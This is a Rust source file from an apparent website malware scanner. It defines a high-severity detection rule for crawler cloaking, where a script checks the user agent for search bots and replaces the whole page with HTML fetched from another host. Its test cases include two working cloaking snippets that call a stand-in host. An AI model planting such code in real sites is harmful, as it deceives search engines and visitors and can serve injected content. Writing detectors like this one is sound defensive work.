//! `robots-shown-other-page`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "robots-shown-other-page",
    description: "The script shows search engines another site's page instead of the page that visitors see.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Robot])],
    within: 0,
    only_if: Some(replaces),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "if(/googlebot|bingbot/i.test(navigator.userAgent))fetch('https://pages.example/seo.txt').then(function(r){return r.text()}).then(function(t){document.documentElement.innerHTML=t})",
            "const bots=['googlebot','yandexbot'];if(bots.some(b=>navigator.userAgent.toLowerCase().includes(b))){fetch('https://pages.example/x').then(r=>r.text()).then(h=>{document.open();document.write(h);document.close()})}",
        ],
        without: &[
            "if(/googlebot|bingbot/i.test(navigator.userAgent))location.replace('/prerendered/faq.html')",
            "if(/googlebot/i.test(navigator.userAgent))fetch('/static/list.html').then(r=>r.text()).then(t=>{list.innerHTML=t})",
            "fetch('https://api.example/page').then(r=>r.text()).then(t=>{document.body.innerHTML=t});var bots=/googlebot/i",
        ],
    },
};

/// Whether robots are told by the browser's name and an answer of another host takes the place of all that is there.
fn replaces(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 220);
    let whole = || {
        near.words(&["innerHTML", "outerHTML"]).any(|at| {
            near.is(at + 1, b'=')
                && matches!(near.kind(at + 2), Some(Kind::Name | Kind::Member))
                && at > 0
                && matches!(near.before(at, 1), "documentElement" | "body")
        })
    };
    let written = || {
        near.words(&["write", "writeln"]).any(|at| {
            at > 0
                && near.before(at, 1) == "document"
                && near.is(at + 1, b'(')
                && near.kind(at + 2) == Some(Kind::Name)
        }) && near.has_word(&["close"])
    };
    near.has_word(&["userAgent"])
        && near.has_word(&["fetch", "responseText", "ajax", "get"])
        && near.has_text(&["googlebot", "bingbot", "yandexbot", "baiduspider"])
        && near.has_text(&["http://", "https://"])
        && (whole() || written())
}
